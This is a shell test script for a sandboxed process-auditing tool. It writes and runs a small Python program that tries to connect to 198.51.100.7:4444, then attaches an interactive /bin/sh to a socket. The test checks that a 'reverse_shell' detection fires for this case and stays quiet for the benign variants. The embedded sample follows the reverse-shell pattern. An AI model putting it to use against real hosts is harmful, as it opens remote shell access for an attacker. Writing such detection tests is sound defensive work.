#!/bin/sh
# A reverse shell without a peer (issue 13 §1): the outbound connect fails
# (the sandbox has no route), so the program falls back to a socketpair,
# puts it on an interactive shell's stdin/stdout and drives the shell
# itself.  backdoor.reverse_shell (high) names the peer it tried.  The
# other direction: the same failed connect followed by `sh -c` on a
# socketpair (node's child_process does this) and an interactive shell on
# pipes stay clean of reverse_shell.
. "$(dirname "$0")/lib.sh"
command -v python3 >/dev/null 2>&1 || { echo "skip: no python3"; exit 77; }
rules() { json '"\n".join("%s %s %s" % (f["rule"], f["severity"], f["message"]) for c in r["categories"] for f in c["findings"])'; }
cat > "$tmp/work/rs.py" <<'PY'
import os, socket, subprocess, sys
mode = sys.argv[1]
s = socket.socket()
s.settimeout(1)
try:
    s.connect(("198.51.100.7", 4444))
except OSError as e:
    print("connect failed:", e.errno)
a, b = socket.socketpair()
if mode == "pipes":
    p = subprocess.run(["/bin/sh", "-i"], input=b"echo hi\nexit\n", capture_output=True)
    sys.exit(0)
argv = ["/bin/sh", "-i"] if mode == "shell" else ["/bin/sh", "-c", "echo from-c"]
pid = os.fork()
if pid == 0:
    for fd in (0, 1, 2):
        os.dup2(b.fileno(), fd)
    os.execv(argv[0], argv)
b.close()
a.sendall(b"echo pwned\nexit\n")
a.settimeout(3)
try:
    print(a.recv(4096))
except OSError:
    pass
os.waitpid(pid, 0)
PY
run_audit --set plugins.process.allow_exec=python3,sh -- python3 rs.py shell "$MARK"
assert_common
rules > "$tmp/rules.txt"
grep -q '^backdoor.reverse_shell high .*198.51.100.7:4444' "$tmp/rules.txt" ||
	fail "no reverse_shell for the shell on a socketpair: $(cat "$tmp/rules.txt")"
for mode in c pipes; do
	rm -rf "$OUT"
	run_audit --set plugins.process.allow_exec=python3,sh -- python3 rs.py $mode "$MARK"
	assert_common
	rules > "$tmp/rules-$mode.txt"
	grep -q '^backdoor.reverse_shell' "$tmp/rules-$mode.txt" &&
		fail "$mode: reverse_shell reported: $(cat "$tmp/rules-$mode.txt")"
done
pass "an interactive shell on a socket after a failed outbound connect is a reverse shell attempt"
